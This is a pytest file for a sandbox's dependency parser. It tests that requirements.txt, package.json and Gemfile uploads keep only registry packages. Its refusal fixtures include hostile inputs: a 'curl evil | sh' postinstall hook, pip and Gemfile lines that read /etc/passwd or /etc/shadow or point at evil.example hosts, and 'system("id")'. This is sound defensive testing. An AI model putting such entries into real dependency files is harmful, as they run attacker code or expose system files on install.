"""Dependency files are reduced to plain registry packages; everything else is refused."""

from __future__ import annotations

import hashlib
import json

import pytest

from sandrun.environments.requirements import MAX_FILE_BYTES, DependencyError, parse_requirements


def test_the_cache_key_is_the_sha256_of_the_file_as_uploaded() -> None:
    data = b"six==1.16.0\n"
    assert parse_requirements("requirements.txt", data).key == hashlib.sha256(data).hexdigest()
    # One more byte (even a comment) is another file, so another key.
    other = parse_requirements("requirements.txt", data + b"# pinned\n")
    assert other.key != parse_requirements("requirements.txt", data).key
    assert other.packages == ("six==1.16.0",)


def test_a_requirements_file_keeps_names_extras_specifiers_and_markers() -> None:
    reqs = parse_requirements("sub/requirements.txt", (
        b"# comment\n\nsix==1.16.0  # trailing comment\n"
        b"requests[socks] >=2, <3 ; python_version >= \"3.8\"\n"
        b"markupsafe \\\n  ==2.1.5\n"))
    assert reqs.kind == "pip"
    assert reqs.packages == ("six==1.16.0", 'requests[socks] >=2, <3 ; python_version >= "3.8"',
                             "markupsafe ==2.1.5")
    assert reqs.rewritten() == ("six==1.16.0\n" + 'requests[socks] >=2, <3 ; python_version'
                                ' >= "3.8"\n' + "markupsafe ==2.1.5\n").encode()


@pytest.mark.parametrize("line, why", [
    ("-r /etc/passwd", "pip options (-r)"),
    ("--index-url https://evil.example/simple", "pip options (--index-url"),
    ("--no-binary :all:", "pip options (--no-binary"),
    ("-e git+https://example.com/x.git#egg=x", "pip options (-e)"),
    ("x @ https://evil.example/x-1.0.tar.gz", "direct URLs"),
    ("x @ file:///etc/shadow", "direct URLs"),
    ("git+https://example.com/x.git", "direct URLs"),
    ("./local-project", "direct URLs"),
    ("/abs/project", "direct URLs"),
    ("evil-1.0.tar.gz", "local archives"),
    ("x==1 y==2", "not a requirement"),
])
def test_a_requirements_line_that_could_reach_the_host_is_refused_naming_the_line(
        line: str, why: str) -> None:
    with pytest.raises(DependencyError) as caught:
        parse_requirements("requirements.txt", f"six==1.16.0\n{line}\n".encode())
    assert caught.value.message.startswith("requirements.txt line 2: ")
    assert why in caught.value.message


def test_package_json_keeps_only_registry_dependencies() -> None:
    reqs = parse_requirements("package.json", json.dumps({
        "name": "job", "scripts": {"postinstall": "curl evil | sh"},
        "devDependencies": {"left-pad": "1.3.0"},
        "dependencies": {"is-number": "^7.0.0", "@scope/pkg": "", "lodash": "latest"},
    }).encode())
    assert reqs.kind == "npm"
    assert reqs.packages == ("@scope/pkg@*", "is-number@^7.0.0", "lodash@latest")
    rewritten = json.loads(reqs.rewritten())
    assert rewritten["dependencies"] == {"@scope/pkg": "*", "is-number": "^7.0.0",
                                         "lodash": "latest"}
    assert "scripts" not in rewritten and "devDependencies" not in rewritten


@pytest.mark.parametrize("spec", ["git+https://example.com/x.git", "file:../../etc",
                                  "user/repo", "https://evil.example/x.tgz",
                                  "npm:other@1.0.0", "link:/etc"])
def test_a_package_json_spec_that_is_not_a_registry_version_is_refused(spec: str) -> None:
    with pytest.raises(DependencyError, match="only registry versions and ranges"):
        parse_requirements("package.json", json.dumps({"dependencies": {"x": spec}}).encode())


def test_a_gemfile_is_parsed_never_evaluated() -> None:
    reqs = parse_requirements("Gemfile", (
        b"# frozen_string_literal: true\nsource \"https://rubygems.org\"\nruby '3.1.2'\n"
        b"gem \"rake\"\ngem 'greeter', '~> 1.0', '>= 1.0.2'\n"))
    assert reqs.kind == "gem"
    assert reqs.packages == ("rake\0", "greeter\0~> 1.0, >= 1.0.2")


@pytest.mark.parametrize("line", [
    'gem "x", git: "https://example.com/x.git"', 'gem "x", path: "/etc"',
    'system("id")', "group :test do", "gemspec", 'eval File.read("/etc/passwd")',
    'source "https://evil.example"'])
def test_a_gemfile_line_beyond_source_ruby_and_gem_is_refused(line: str) -> None:
    with pytest.raises(DependencyError, match="Gemfile line 2: "):
        parse_requirements("Gemfile", f'gem "rake"\n{line}\n'.encode())


def test_oversized_binary_or_unknown_files_are_refused() -> None:
    with pytest.raises(DependencyError, match="larger than"):
        parse_requirements("requirements.txt", b"#" * (MAX_FILE_BYTES + 1))
    with pytest.raises(DependencyError, match="not UTF-8"):
        parse_requirements("requirements.txt", b"\xff\xfe")
    with pytest.raises(DependencyError, match="must be one of"):
        parse_requirements("setup.py", b"")
    with pytest.raises(DependencyError, match="not JSON"):
        parse_requirements("package.json", b"{")
